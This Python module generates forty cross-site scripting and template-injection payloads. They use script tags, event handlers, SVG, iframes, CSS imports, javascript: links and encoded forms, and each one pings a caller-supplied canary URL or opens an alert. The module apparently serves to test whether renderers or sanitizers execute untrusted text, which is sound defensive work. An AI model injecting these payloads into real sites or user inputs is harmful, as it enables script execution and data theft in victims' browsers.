"""Forty texts that would act if anything took them for HTML, a template, a link or a script."""

from __future__ import annotations

_ACT = "fetch('{canary}')"
_FORMS = (
    "<script>{act}</script>",
    "</script><script>{act}</script>",
    "<ScRiPt>{act}</sCrIpT>",
    "<script src={canary}></script>",
    "<img src=x onerror={act}>",
    "<img src={canary}>",
    "<svg/onload={act}>",
    "<svg><animate onbegin={act}>",
    "<svg><use href={canary}#a>",
    "<iframe src={canary}></iframe>",
    "<iframe srcdoc='<script>{act}</script>'>",
    "<object data={canary}>",
    "<embed src={canary}>",
    "<link rel=stylesheet href={canary}>",
    "<style>@import '{canary}'</style>",
    "<style>body{{background:url({canary})}}</style>",
    "<b style=background:url({canary})>",
    "<meta http-equiv=refresh content=0;url={canary}>",
    "<base href={canary}>",
    "<form action={canary}><input autofocus onfocus={act}>",
    "<video poster={canary}>",
    "<video><source onerror={act}>",
    "<audio src={canary} autoplay>",
    "<details open ontoggle={act}>",
    "<marquee onstart={act}>",
    "<math><mtext><mglyph><style><img src=x onerror={act}>",
    "<template><img src=x onerror={act}></template>",
    "<a href=javascript:{act}>a cat</a>",
    '" onfocus="{act}" autofocus="',
    "' onmouseover='{act}",
    "`+{act}+`",
    "${{{act}}}",
    "{{{{constructor.constructor(`{act}`)()}}}}",
    "{{{{#each value}}}}{{{{{{this}}}}}}{{{{/each}}}}<img src={canary}>",
    "![a]({canary})",
    "[a](javascript:{act})",
    "&lt;img src=x onerror={act}&gt;",
    "\\u003cimg src=x onerror={act}\\u003e",
    "]]><img src={canary}>",
    "--><img src={canary}>",
)


def payloads(canary: str) -> list[str]:
    """The texts; each asks `canary`, or opens a dialog, if it acts."""
    texts = [form.format(act=_ACT.format(canary=canary), canary=canary) for form in _FORMS]
    texts[::2] = [text.replace(_ACT.format(canary=canary), "alert(1)") for text in texts[::2]]
    assert len(set(texts)) == 40
    return texts
